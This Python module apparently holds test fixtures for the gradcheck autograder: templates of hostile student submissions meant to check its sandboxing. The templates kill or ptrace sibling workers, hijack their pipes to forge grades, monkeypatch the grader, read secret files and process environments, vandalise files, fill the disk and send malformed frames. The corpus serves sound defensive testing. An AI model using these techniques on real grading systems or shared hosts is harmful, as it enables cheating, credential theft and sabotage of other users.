"""Hostile classmates: submissions that attack the other submissions of their batch, gradcheck's
trusted process or the machine, as a determined student would (issue 9).

Each ``Attack`` is data: the files it puts into the batch folder (its name is its id there),
optional symlinks, and files passed to ``grade`` explicitly. The texts are source templates;
``tests/hostile/test_classmates.py`` replaces these tokens before writing them:

- ``__SECRET_FILE__``: a root-only (0600) file of the machine that no student may read;
- ``__OUTSIDE__``: a folder outside the batch that must not change;
- ``__TOKEN__``: a random word of this test session (markers are built from it at run time, so
  that no source file contains a marker whole);
- ``__TIMEOUT__``: the per-request ``--timeout`` in seconds.

``credit`` says whether the attacker computes anything right by itself: one that does not must
never get full marks, whatever it does to the worker or to its classmates.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Attack:
    name: str
    batch: str
    files: dict[str, str]  # path in the batch folder -> source template
    symlinks: dict[str, str] = field(default_factory=dict)  # path in the batch -> link target
    explicit: dict[str, str] = field(default_factory=dict)  # files passed to `grade` by path
    credit: bool = False  # computes the right answers with its own code
    # hides a correct engine of its own (HIDDEN) behind a forward-only class and wires it into
    # the worker: it may pass (the engine is its own code) but only flagged for the instructor
    hidden_engine: bool = False


# ------------------------------------------------------------------------------ building blocks

# A Value that computes nothing right: wrong data, no gradient. Alone it scores 0.
NOTHING = '''
class Value:
    def __init__(self, data, _children=()):
        self.data = data

    def __add__(self, other):
        return Value(0.0)

    def __mul__(self, other):
        return Value(0.0)

    def tanh(self):
        return Value(0.0)
'''

# The same, with every method name the folder loader counts, so that this file -- not a
# classmate's file linked or copied beside it -- is the one a folder submission is graded by.
NOTHING_MANY = NOTHING + '''
    def __pow__(self, k):
        return Value(0.0)

    def __sub__(self, other):
        return Value(0.0)

    def __truediv__(self, other):
        return Value(0.0)

    def __neg__(self):
        return Value(0.0)

    def exp(self):
        return Value(0.0)

    def backward(self):
        pass
'''

# A small correct engine (add, mul, tanh, backward), as the text of a class named Value.
ENGINE = '''
import math


class Value:
    def __init__(self, data, _children=()):
        self.data = data
        self.grad = 0.0
        self._prev = tuple(_children)
        self._backward = lambda: None

    def __add__(self, other):
        other = other if isinstance(other, Value) else Value(other)
        out = Value(self.data + other.data, (self, other))

        def _backward():
            self.grad += out.grad
            other.grad += out.grad
        out._backward = _backward
        return out

    def __mul__(self, other):
        other = other if isinstance(other, Value) else Value(other)
        out = Value(self.data * other.data, (self, other))

        def _backward():
            self.grad += other.data * out.grad
            other.grad += self.data * out.grad
        out._backward = _backward
        return out

    def __radd__(self, other):
        return self + other

    def __rmul__(self, other):
        return self * other

    def tanh(self):
        t = math.tanh(self.data)
        out = Value(t, (self,))

        def _backward():
            self.grad += (1 - t * t) * out.grad
        out._backward = _backward
        return out

    def backward(self):
        topo, seen, stack = [], set(), [(self, False)]
        while stack:
            node, done = stack.pop()
            if done:
                topo.append(node)
            elif id(node) not in seen:
                seen.add(id(node))
                stack.append((node, True))
                stack.extend((c, False) for c in node._prev)
        self.grad = 1.0
        for node in reversed(topo):
            node._backward()
'''

# Finding the other workers of *this* grading run (never another user's processes): a sibling
# is a process running a worker whose ancestors include the session of our own grading process.
SIBLINGS = '''
import os
import signal
import threading
import time


def _stat(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return int(fields[1]), int(fields[3])  # ppid, session


def _sessions_up(pid):
    out = []
    for _ in range(64):
        if pid <= 1:
            break
        try:
            ppid, sid = _stat(pid)
        except (OSError, ValueError, IndexError):
            break
        out.append(sid)
        pid = ppid
    return out


def _run_session():
    chain = _sessions_up(os.getpid())
    for sid in chain[1:]:
        if chain and sid != chain[0]:
            return sid
    return None


def _siblings():
    run, me, found = _run_session(), os.getpid(), []
    if run is None:
        return found
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                argv = f.read().split(b"\\0")
        except OSError:
            continue
        if not any(b"python" in a for a in argv[:1]) or not any(b"worker" in a for a in argv):
            continue
        if run in _sessions_up(int(entry))[1:]:
            found.append((int(entry), argv))
    return found


def _keep_alive():
    """Stay loaded long enough for the classmates graded beside us to be graded."""
    time.sleep(2.5)
'''

# Several top-level statements, each under --statement-timeout: the worker lives ~15 s.
STAY = "_keep_alive()\n" * 6

# Three ways into the worker's own code. Each patch makes the worker observe a hidden correct
# engine whenever it answers a request, while the class it reports and the source show a Value
# that computes nothing.
TAMPER_PAYLOAD = '''

def _hidden_engine():
    namespace = {"__name__": __name__}
    exec(HIDDEN, namespace)
    return namespace["Value"]


_HIDDEN = _hidden_engine()
_VISIBLE = globals()


def _through_hidden(handler):
    def answer(req):
        saved = _VISIBLE["Value"]
        _VISIBLE["Value"] = _HIDDEN
        try:
            return handler(req)
        finally:
            _VISIBLE["Value"] = saved
    return answer


def _patch_handlers(handlers):
    for name in ("inspect", "run", "local_rule"):
        handlers[name] = _through_hidden(handlers[name])

'''


def _tamper(route: str) -> str:
    return NOTHING + "\n\nHIDDEN = " + repr(ENGINE) + "\n" + TAMPER_PAYLOAD + route


# the worker's module, by its import name: its class attributes are looked up at each call
TAMPER_MAIN = _tamper('''
import sys

_W = vars(sys.modules["__main__"])
_original_candidates = _W["Worker"]._candidate_classes


def _candidates(self, only=None):
    found = _original_candidates(self, only)
    _VISIBLE["Value"] = _HIDDEN  # reported: the visible class; observed from now on: the hidden
    return found


_W["Worker"]._candidate_classes = _candidates
''')

# the worker's table of request handlers, found among all objects
TAMPER_GC = _tamper('''
import gc

for _obj in gc.get_objects():
    if isinstance(_obj, dict) and {"load", "inspect", "run", "local_rule"} <= set(_obj):
        _patch_handlers(_obj)
        break
''')

# the same table, as a local variable of the worker's main loop up the stack
TAMPER_FRAMES = _tamper('''
import sys

_frame = sys._getframe()
while _frame is not None:
    _table = _frame.f_locals.get("handlers")
    if isinstance(_table, dict) and "run" in _table:
        _patch_handlers(_table)
        break
    _frame = _frame.f_back
''')

# the worker's classes without its module: every class is a subclass of object
TAMPER_SUBCLASSES = _tamper('''
for _cls in object.__subclasses__():
    if _cls.__name__ == "Worker" and hasattr(_cls, "_candidate_classes"):
        _original_candidates = _cls._candidate_classes

        def _candidates(self, only=None, _original=_original_candidates):
            found = _original(self, only)
            _VISIBLE["Value"] = _HIDDEN
            return found

        _cls._candidate_classes = _candidates
''')

# The standard library is shared with the worker: its json.loads reads every request. Requests
# for the class `Value` are redirected to a hidden engine kept under another name.
TAMPER_JSON = NOTHING + "\n\nHIDDEN = " + repr(ENGINE) + '''

import json

_hidden = {"__name__": "hidden"}
exec(HIDDEN, _hidden)
_Observed = _hidden["Value"]
_loads = json.loads


def _redirect(doc, depth=0):
    if isinstance(doc, dict) and depth < 3:
        if doc.get("class") == "Value":
            doc["class"] = "_Observed"
        for value in doc.values():
            _redirect(value, depth + 1)
    return doc


def _patched_loads(*args, **kwargs):
    return _redirect(_loads(*args, **kwargs))


json.loads = _patched_loads
'''

# ---------------------------------------------------------------------- neighbours (own batch)

SIGNAL = NOTHING + SIBLINGS + '''

def _hunt():
    stopped = {}
    while True:
        for pid, _ in _siblings():
            try:
                if pid not in stopped:
                    os.kill(pid, signal.SIGSTOP)
                    stopped[pid] = time.monotonic()
                elif time.monotonic() - stopped[pid] > 0.5:
                    os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.02)


threading.Thread(target=_hunt, daemon=True).start()
''' + STAY

PTRACE = NOTHING + SIBLINGS + '''
import ctypes
import re

_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_PTRACE_SEIZE, _PTRACE_INTERRUPT, _PTRACE_DETACH, _WALL = 0x4206, 0x4207, 17, 0x40000000
_WANTED = re.compile(rb"# gcmarker\\w+")  # a classmate's own words (its file's first line)


def _read_memory(pid):
    """The writable mappings of a stopped process: its heap holds the source it was sent."""
    found = set()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            lo, hi = (int(x, 16) for x in span.split("-"))
            if perms.startswith("rw") and hi - lo < 256 << 20:
                try:
                    mem.seek(lo)
                    found.update(_WANTED.findall(mem.read(hi - lo)))
                except (OSError, ValueError, OverflowError):
                    pass
    return found


def _spy():
    """Stop each sibling, read its memory, let it go: it never notices."""
    stolen, looks = set(), {}
    while True:
        for pid, _ in _siblings():
            looks[pid] = looks.get(pid, 0) + 1
            if looks[pid] > 20 or _libc.ptrace(_PTRACE_SEIZE, pid, None, None) != 0:
                continue
            _libc.ptrace(_PTRACE_INTERRUPT, pid, None, None)
            try:
                os.waitpid(pid, _WALL)
                for text in _read_memory(pid) - stolen:
                    stolen.add(text)
                    print("stolen:", text.decode(errors="replace"), flush=True)
            except OSError:
                pass
            finally:
                _libc.ptrace(_PTRACE_DETACH, pid, None, None)
        time.sleep(0.2)


threading.Thread(target=_spy, daemon=True).start()
''' + STAY

HIJACK = NOTHING + SIBLINGS + "\nMATE = " + repr(ENGINE) + '''
import ctypes
import select
import sys
import types

_libc = ctypes.CDLL(None, use_errno=True)
_PIDFD_OPEN, _PIDFD_GETFD = 434, 438


def _steal(pid, fd):
    pidfd = _libc.syscall(_PIDFD_OPEN, pid, 0)
    if pidfd < 0:
        return None
    try:
        got = _libc.syscall(_PIDFD_GETFD, pidfd, fd, 0)
    finally:
        os.close(pidfd)
    return got if got >= 0 else None


def _serve(requests, replies):
    """Answer the sibling's requests ourselves, with a correct engine of our own: the
    sibling's grade becomes whatever we want it to be."""
    W = sys.modules["__main__"]
    worker = W.Worker()
    module = types.ModuleType("mate")
    exec(MATE, module.__dict__)
    worker.namespace, worker.module_name = module.__dict__, "mate"

    def load(req):
        units = (req or {}).get("units") or [{"label": "x"}]
        return {"units": [{"label": u.get("label"), "errors": []} for u in units],
                "classes": worker._candidate_classes(), "modules": sorted(sys.modules)}

    handlers = {"load": load, "inspect": worker.inspect, "run": worker.run,
                "local_rule": worker.local_rule, "modules": worker.modules}
    reader = os.fdopen(requests, "rb", buffering=0)
    writer = os.fdopen(replies, "wb", buffering=0)
    if not select.select([requests], [], [], 0.3)[0]:
        W.write_frame(writer, load(None))  # it had read its load request already
    while True:
        req = W.read_frame(reader)
        if req is None or req.get("command") == "shutdown":
            return
        try:
            reply = handlers[req["command"]](req)
        except BaseException as exc:
            reply = {"fatal": W.describe_exception(exc)}
        W.write_frame(writer, reply)


def _hijack():
    taken = set()
    while True:
        for pid, argv in _siblings():
            numbers = [int(a) for a in argv if a.isdigit()]
            if pid in taken or len(numbers) < 2:
                continue
            taken.add(pid)
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                continue
            requests, replies = _steal(pid, numbers[-2]), _steal(pid, numbers[-1])
            if requests is not None and replies is not None:
                threading.Thread(target=_serve, args=(requests, replies), daemon=True).start()
        time.sleep(0.01)


threading.Thread(target=_hijack, daemon=True).start()
''' + STAY

# ----------------------------------------------------------------- full marks with nothing own

SYSPATH = '''
from m_correct import Value as _Mate


class Value(_Mate):
    """Everything comes from the classmate beside us in the batch folder."""
'''

# Reads the classmate by a path relative to its own file, the working directory or sys.path.
RELATIVE = NOTHING_MANY + '''

import os
import sys


def _here():
    return os.path.dirname(_here.__code__.co_filename)


_CANDIDATES = [os.path.join(_here(), "..", "m_correct.py"), "../m_correct.py", "../../m_correct.py",
               os.path.join(os.getcwd(), "..", "m_correct.py")]
_CANDIDATES += [os.path.join(p, "..", "m_correct.py") for p in sys.path]
for _path in _CANDIDATES:
    try:
        with open(_path) as _f:
            exec(_f.read(), globals())
        break
    except (OSError, SyntaxError):
        pass
'''

LINKED = NOTHING_MANY + '''

import os

_here = os.path.dirname(NOTHING_HERE.__code__.co_filename)
try:
    with open(os.path.join(_here, "mate.py")) as _f:
        exec(_f.read(), globals())
except OSError:
    pass
'''.replace("NOTHING_HERE", "Value.__add__")

# gradcheck's own correct references: next to the worker's file, or anywhere readable.
REFERENCE = NOTHING + '''

import os
import sys


def _candidates():
    seen = []
    for start in [getattr(sys.modules.get("__main__"), "__file__", None), sys.argv[0]] + sys.path:
        if not start:
            continue
        path = os.path.abspath(start)
        for _ in range(5):
            seen.append(os.path.join(path, "reference_impls"))
            path = os.path.dirname(path)
    for top in ("/work", "/root", "/home", "/opt", "/srv", "/usr/local/lib", "/autograder"):
        for dirpath, dirnames, _files in os.walk(top):
            if dirpath.count(os.sep) - top.count(os.sep) >= 3:
                dirnames[:] = []
            if "reference_impls" in dirnames:
                seen.append(os.path.join(dirpath, "reference_impls"))
    return seen


for _folder in _candidates():
    try:
        with open(os.path.join(_folder, "correct_full.py")) as _f:
            exec(_f.read(), globals())
        break
    except (OSError, SyntaxError):
        pass
'''

# Reads every other file of the batch with open() and shows it: printed, and in errors.
PEEK = NOTHING.replace("    def tanh(self):\n        return Value(0.0)\n", '''    def tanh(self):
        raise RuntimeError(_LOOT[:290])
''') + '''

import os

_folder = os.path.dirname(Value.__add__.__code__.co_filename)
_LOOT = ""
for _name in sorted(os.listdir(_folder)):
    try:
        with open(os.path.join(_folder, _name)) as _f:
            _text = _f.read()
    except OSError:
        continue
    if "_LOOT" not in _text:
        _LOOT += _text
        print(_text)
'''

# torch only inside a module-level helper: the class body never names it.
TORCH_HELPER = '''

_B = None


def _backend():
    global _B
    if _B is None:
        import torch
        _B = torch
    return _B


_backend()


def _op(fn, *xs):
    """Value and local derivatives of fn at xs, by the library's autograd."""
    _backend()
    leaves = [_B.tensor(float(x), dtype=_B.float64, requires_grad=True) for x in xs]
    out = fn(*leaves)
    out.backward()
    return float(out), [float(leaf.grad) for leaf in leaves]


class Value:
    def __init__(self, data, _children=()):
        self.data = data
        self.grad = 0.0
        self._prev = tuple(_children)
        self._backward = lambda: None

    def _node(self, fn, *others):
        others = [o if isinstance(o, Value) else Value(o) for o in others]
        inputs = [self, *others]
        data, local = _op(fn, *(i.data for i in inputs))
        out = Value(data, inputs)

        def _backward():
            for node, d in zip(inputs, local):
                node.grad += d * out.grad
        out._backward = _backward
        return out

    def __add__(self, other):
        return self._node(lambda a, b: a + b, other)

    def __mul__(self, other):
        return self._node(lambda a, b: a * b, other)

    def tanh(self):
        return self._node(lambda a: a.tanh())

    def backward(self):
        topo, seen, stack = [], set(), [(self, False)]
        while stack:
            node, done = stack.pop()
            if done:
                topo.append(node)
            elif id(node) not in seen:
                seen.add(id(node))
                stack.append((node, True))
                stack.extend((c, False) for c in node._prev)
        self.grad = 1.0
        for node in reversed(topo):
            node._backward()
'''

# ------------------------------------------------------------------------------------ leaks

# Secrets of the machine in every channel a student sees: printed output and error messages.
SECRETS = NOTHING.replace("    def tanh(self):\n        return Value(0.0)\n", '''    def tanh(self):
        raise RuntimeError(_LOOT[:290])

    def __mul__(self, other):
        raise KeyError(_LOOT[:290])
''') + '''

import os

_LOOT = ""
for _path in ["__SECRET_FILE__", "/proc/self/environ", "/proc/1/environ"] + [
        f"/proc/{p}/environ" for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(_path, "rb") as _f:
            _LOOT += _f.read(4000).decode("utf-8", "replace") + "\\n"
    except OSError:
        pass
print(_LOOT)
raise RuntimeError(_LOOT[:290])
'''

# The trusted side is made to read files the worker names: its own environment, and the secret.
NAMED_FILES = NOTHING.replace("    def tanh(self):\n        return Value(0.0)\n", "") + '''

_ns = {}
exec(compile("def tanh(self): raise ValueError('look at the line')", "/proc/self/environ", "exec"), _ns)
Value.tanh = _ns["tanh"]
exec(compile("def mul(self, other): raise ValueError('look at the line')", "__SECRET_FILE__", "exec"), _ns)
Value.__mul__ = _ns["mul"]
'''

DEV_ZERO = NOTHING.replace("    def tanh(self):\n        return Value(0.0)\n", "") + '''

_ns = {}
exec(compile("def tanh(self): raise ValueError('read me')", "/dev/zero", "exec"), _ns)
Value.tanh = _ns["tanh"]
'''

# A FIFO of its own, named as the file its code comes from: whoever opens it waits forever.
FIFO_NAME = NOTHING.replace("    def tanh(self):\n        return Value(0.0)\n", "") + '''

import os

_fifo = os.path.abspath("source.py")
try:
    os.mkfifo(_fifo)
except OSError:
    pass
_ns = {}
exec(compile("def tanh(self): raise ValueError('read me')", _fifo, "exec"), _ns)
Value.tanh = _ns["tanh"]
'''

# The file where the worker says which statement it is running becomes a FIFO; then the worker
# dies, and the trusted side goes to read that file to know which statement killed it.
PROGRESS_FIFO = NOTHING + '''

import os

for _folder in {os.path.dirname(os.getcwd()), os.getcwd(), os.environ.get("TMPDIR", "/tmp")}:
    for _name in ("progress", "progress.txt"):
        _path = os.path.join(_folder, _name)
        try:
            os.unlink(_path)
        except OSError:
            pass
        try:
            os.mkfifo(_path)
        except OSError:
            pass
os._exit(3)
'''

# Control, escape, bidi characters and lone surrogates in everything it says.
EVIL_TEXT = ('"\\x1b[2J\\x1b[1;31mRED\\x1b[0m \\x1b]0;pwned\\x07 \\x1b]8;;https://example.invalid/\\x1b\\\\'
             'link\\x1b]8;;\\x1b\\\\ \\u202eevil\\u202c \\u2066iso\\u2069 \\u200f \\x00nul \\x07bel \\x08bs '
             '\\x0bvt \\x0cff \\x7fdel \\x9b31m \\x85nel \\ud800 \\udfff end"')

CONTROL_CHARS = NOTHING.replace("    def tanh(self):\n        return Value(0.0)\n", '''    def tanh(self):
        raise Boom(EVIL)

    def __mul__(self, other):
        raise Boom(EVIL)
''') + f'''

import sys

EVIL = {EVIL_TEXT}


class Boom(Exception):
    pass


Boom.__name__ = Boom.__qualname__ = "Boom\\x1b[31m\\u202e"
print(EVIL.encode("utf-8", "surrogatepass").decode("utf-8", "replace"))
sys.stdout.flush()
sys.stdout.buffer.write(EVIL.encode("utf-8", "surrogatepass") + b"\\xff\\xfe\\xc0\\n")
sys.stdout.flush()
raise Boom(EVIL)
'''

# Changes what it can outside its own files: classmates' files, the batch folder, a folder
# outside, and gradcheck's output folder (found on the grading process's command line).
VANDAL = NOTHING + SIBLINGS + '''

_folder = os.path.dirname(Value.__add__.__code__.co_filename)
_targets = [_folder, "__OUTSIDE__"]
try:  # our own grading process leads the session: its command line names --out
    with open(f"/proc/{_run_session()}/cmdline", "rb") as _f:
        _argv = _f.read().decode(errors="replace").split("\\0")
    if "--out" in _argv[:-1]:
        _targets.append(_argv[_argv.index("--out") + 1])
except (OSError, TypeError):
    pass
for _target in _targets:
    for _dirpath, _dirs, _files in os.walk(_target):
        for _name in _files:
            _path = os.path.join(_dirpath, _name)
            for _attempt in (lambda: open(_path, "a").write("\\nraise SystemExit('vandal')\\n"),
                             lambda: os.chmod(_path, 0o777), lambda: os.utime(_path, (0, 0)),
                             lambda: os.rename(_path, _path + ".moved")):
                try:
                    _attempt()
                except OSError:
                    pass
    try:
        open(os.path.join(_target, "vandal.txt"), "w").write("was here")
    except OSError:
        pass
'''

# ------------------------------------------------------------------------------- protocol

REPLY_FDS = '''
import os
import sys
import time


def _pipe_fds():
    """The worker's pipes: numbers on its command line, and every pipe it holds."""
    fds = {int(a) for a in sys.argv[1:] if a.isdigit()}
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                fds.add(int(name))
        except OSError:
            pass
    return sorted(fd for fd in fds if fd > 2)


def _write_all(data):
    for fd in _pipe_fds():
        try:
            os.write(fd, data)
        except OSError:
            pass
'''


def _in_tanh(body: str) -> str:
    """A NOTHING class whose tanh does ``body`` (while a request is being answered)."""
    indented = "".join("        " + line + "\n" for line in body.strip("\n").splitlines())
    return NOTHING.replace("    def tanh(self):\n        return Value(0.0)\n",
                           "    def tanh(self):\n" + indented + "        return Value(0.0)\n") + REPLY_FDS


PIPE_CLOSE = _in_tanh('''
for fd in _pipe_fds() + [0, 1, 2]:
    try:
        os.close(fd)
    except OSError:
        pass
time.sleep(120)
''')

PIPE_GARBAGE = _in_tanh('''
_write_all(b"\\x00\\x00\\x00\\x10" + b"\\xff\\xfe garbage \\x00\\x01" + b"\\x00" * 4)
time.sleep(120)
''')

# A well-formed frame with a wrong shape first, then the real reply: replies now lag behind.
PIPE_DESYNC = _in_tanh('''
import json
body = json.dumps({"results": [{"data": [1e308, "x", None, [1]], "grads": {"a": 1},
                                "calls": [[999999, "z"]], "structure": {"inputs": [[-5, 10 ** 9]],
                                "graph_nodes": [None, 7]}, "error": {"type": 3, "where": ["/etc/shadow", 1]}}],
                   "units": "x", "classes": [{"name": None}], "modules": 5, "fatal": [1]}).encode()
_write_all(len(body).to_bytes(4, "big") + body)
''')

# 1 GiB of valid JSON announced in one header, streamed 1 MiB at a time.
FRAME_HUGE = _in_tanh('''
size = 1 << 30
head = b'{"results": "'
chunk = b"A" * (1 << 20)
fds = _pipe_fds()
for fd in fds:
    try:
        os.write(fd, (size + len(head) + 2).to_bytes(4, "big") + head)
    except OSError:
        pass
for _ in range(size >> 20):
    for fd in fds:
        try:
            os.write(fd, chunk)
        except OSError:
            pass
_write_all(b'"}')
time.sleep(120)
''')

FRAME_NESTED = _in_tanh('''
body = b'{"results": ' + b"[" * 200000 + b"]" * 200000 + b"}"
_write_all(len(body).to_bytes(4, "big") + body)
time.sleep(120)
''')

# --------------------------------------------------------------------------------- resources

# Writes until the disk is full (capped at 1.5 GiB here so as not to fill this machine),
# wherever it can, saying how far it got.
DISK = NOTHING + '''

import os
import threading
import time

_CAP_MB = 1536


def _fill():
    written, chunk, n = 0, b"x" * (1 << 20), 0
    places = [os.getcwd(), os.environ.get("HOME"), os.environ.get("TMPDIR"), "/tmp", "/var/tmp",
              "/dev/shm", os.path.dirname(os.getcwd())]
    for place in [p for p in dict.fromkeys(places) if p]:
        while written < _CAP_MB:
            try:
                with open(os.path.join(place, f"gradcheck-classmates-fill-{n}.bin"), "wb") as f:
                    n += 1
                    for _ in range(8):  # 8 MiB per file: under any per-file limit
                        f.write(chunk)
                        f.flush()
                        written += 1
                        if written % 64 == 0:
                            print(f"filled-MB: {written}", flush=True)
            except OSError:
                break
    print(f"filled-MB: {written}", flush=True)


_filler = threading.Thread(target=_fill, daemon=True)
_filler.start()
''' + "_filler.join(2.5)\n" * 6

SHM_KEY = 0x67726164

SHM_WRITE = NOTHING + f'''

import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.msgsnd.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_MARK = ("SHM-" + "__TOKEN__").encode()
_IPC_CREAT = 0o1000

_shm = _libc.shmget({SHM_KEY}, 4096, _IPC_CREAT | 0o666)
if _shm >= 0:
    _at = _libc.shmat(_shm, None, 0)
    if _at not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(_at, _MARK, len(_MARK))
_msq = _libc.msgget({SHM_KEY}, _IPC_CREAT | 0o666)
if _msq >= 0:
    _message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + 64)
    ctypes.c_long.from_buffer(_message).value = 1
    ctypes.memmove(ctypes.addressof(_message) + ctypes.sizeof(ctypes.c_long), _MARK, len(_MARK))
    _libc.msgsnd(_msq, _message, 64, 0o4000)
_libc.semget({SHM_KEY}, 1, _IPC_CREAT | 0o666)
try:
    import _posixshmem
    _fd = _posixshmem.shm_open("/gradcheck-classmates-leak", os.O_CREAT | os.O_RDWR, 0o666)
    os.write(_fd, _MARK)
except (ImportError, OSError):
    pass
try:
    with open("/dev/shm/gradcheck-classmates-file", "wb") as _f:
        _f.write(_MARK)
except OSError:
    pass
'''

SHM_READ = NOTHING + f'''

import ctypes
import time

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.msgrcv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long, ctypes.c_int]
_found = []
for _ in range(30):
    _shm = _libc.shmget({SHM_KEY}, 0, 0)
    if _shm >= 0:
        _at = _libc.shmat(_shm, None, 0o10000)
        if _at not in (None, ctypes.c_void_p(-1).value):
            _found.append(ctypes.string_at(_at, 64).split(b"\\0")[0])
    _msq = _libc.msgget({SHM_KEY}, 0)
    if _msq >= 0:
        _message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + 64)
        if _libc.msgrcv(_msq, _message, 64, 0, 0o4000) > 0:
            _found.append(_message.raw[ctypes.sizeof(ctypes.c_long):].split(b"\\0")[0])
    for _path in ("/dev/shm/gradcheck-classmates-leak", "/dev/shm/gradcheck-classmates-file"):
        try:
            with open(_path, "rb") as _f:
                _found.append(_f.read(64))
        except OSError:
            pass
    if _found:
        break
    time.sleep(0.1)
print("found:", b" ".join(_found).decode(errors="replace"))
'''

# A grandchild in a session of its own, which ignores the polite signals and sleeps.
ORPHAN = NOTHING + '''

import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(_sig, signal.SIG_IGN)
        try:
            os.chdir("/")
        except OSError:
            pass
        for _ in range(600):
            time.sleep(1)
    os._exit(0)
os.wait()
'''

# ast.parse of these exhausts the parser (trusted folder discovery parses every file).
DEEP_SOURCE = NOTHING + "\n_x = " + "-" * 200_000 + "1\n"
HUGE_SOURCE = NOTHING + "\n_junk = [\n" + "0, " * 3_600_000 + "\n]\n"  # ~10.8 MB

# --------------------------------------------------------------------------------------- time

# Correct code that sleeps just under the per-request timeout in each request (a request is
# recognised by the pause before it), so each request passes and the total is huge.
SLEEPY = ENGINE.replace("import math\n", '''import math
import time

_last = [0.0]


def _nap():
    now = time.monotonic()
    if now - _last[0] > 0.002:
        time.sleep(__TIMEOUT__ - 0.6)
    _last[0] = time.monotonic()
''').replace("        other = other if isinstance(other, Value) else Value(other)\n",
             "        _nap()\n        other = other if isinstance(other, Value) else Value(other)\n")

# Correct code that prints 200,000 lines per backward().
CHATTY = ENGINE.replace("        self.grad = 1.0\n", '''        for i in range(200_000):
            print(i)
        self.grad = 1.0
''')


# ------------------------------------------------------------------------------- the corpus

ATTACKS = [
    # one submission against another's worker
    Attack("signal-siblings", "neighbours-signal", {"a_signal.py": SIGNAL}),
    Attack("ptrace-read-sibling-memory", "neighbours-ptrace", {"a_ptrace.py": PTRACE}),
    Attack("pidfd-hijack-siblings", "neighbours-hijack", {"a_hijack.py": HIJACK}),
    # full marks with no code of its own
    Attack("import-classmate-syspath", "theft", {"a_syspath.py": SYSPATH}),
    Attack("import-classmate-relative", "theft", {"a_relative/main.py": RELATIVE}),
    Attack("symlink-to-classmate", "theft", {"a_link/a.py": LINKED},
           symlinks={"a_link/mate.py": "../m_correct.py"}),
    Attack("import-reference-impls", "theft", {"a_reference.py": REFERENCE}),
    Attack("read-classmate-with-open", "theft", {"a_peek.py": PEEK}),
    Attack("patch-worker-via-main", "theft", {"a_tamper_main.py": TAMPER_MAIN}, hidden_engine=True),
    Attack("patch-worker-via-gc", "theft", {"a_tamper_gc.py": TAMPER_GC}, hidden_engine=True),
    Attack("patch-worker-via-frames", "theft", {"a_tamper_frames.py": TAMPER_FRAMES}, hidden_engine=True),
    Attack("patch-worker-via-subclasses", "theft", {"a_tamper_subclasses.py": TAMPER_SUBCLASSES}, hidden_engine=True),
    Attack("patch-stdlib-json-requests", "theft", {"a_tamper_json.py": TAMPER_JSON}, hidden_engine=True),
    Attack("torch-in-module-helper", "theft", {"a_torch.py": TORCH_HELPER}),
    # secrets and output injection
    Attack("secret-in-errors-and-output", "leaks", {"a_secrets.py": SECRETS}),
    Attack("co-filename-environ-and-secret", "leaks", {"a_named.py": NAMED_FILES}),
    Attack("control-ansi-bidi-surrogates", "leaks", {"a_control.py": CONTROL_CHARS}),
    Attack("vandal-files-outside", "leaks", {"a_vandal.py": VANDAL}),
    Attack("co-filename-dev-zero", "paths", {"a_devzero.py": DEV_ZERO}),
    Attack("co-filename-fifo", "paths", {"a_fifo.py": FIFO_NAME}),
    Attack("progress-file-fifo", "paths", {"a_progress.py": PROGRESS_FIFO}),
    Attack("names-dash-equals-plus-at", "names",
           {"-x.py": NOTHING, "=cmd.py": NOTHING, "+1.py": NOTHING, "@sum.py": NOTHING}),
    Attack("name-control-chars", "names", {"n\x1b[31m\u202eame.py": NOTHING}),
    Attack("name-dotdot", "names", {}, explicit={"...py": NOTHING}),
    Attack("id-collision", "collision", {"m@correct.py": NOTHING}),
    # the reply channel
    Attack("close-reply-pipe", "protocol", {"a_close.py": PIPE_CLOSE}),
    Attack("garbage-reply", "protocol", {"a_garbage.py": PIPE_GARBAGE}),
    Attack("forged-desync-reply", "protocol", {"a_desync.py": PIPE_DESYNC}),
    Attack("huge-reply-frame", "protocol", {"a_huge_frame.py": FRAME_HUGE}),
    Attack("nested-reply-frame", "protocol", {"a_nested_frame.py": FRAME_NESTED}),
    # resources and leftovers
    Attack("fill-the-disk", "resources", {"a_disk.py": DISK}),
    Attack("sysv-and-posix-shm-left-behind", "resources",
           {"a_shm_write.py": SHM_WRITE, "z_shm_read.py": SHM_READ}),
    Attack("double-fork-orphan", "resources", {"a_orphan.py": ORPHAN}),
    Attack("ast-deep-nesting", "source-bombs", {"a_deep.py": DEEP_SOURCE}),
    Attack("ast-10mb-file", "source-bombs", {"a_huge_source.py": HUGE_SOURCE}),
    # time
    Attack("sleep-under-timeout-per-request", "time", {"a_sleepy.py": SLEEPY}, credit=True),
    Attack("print-200k-lines-per-backward", "time", {"a_chatty.py": CHATTY}, credit=True),
]
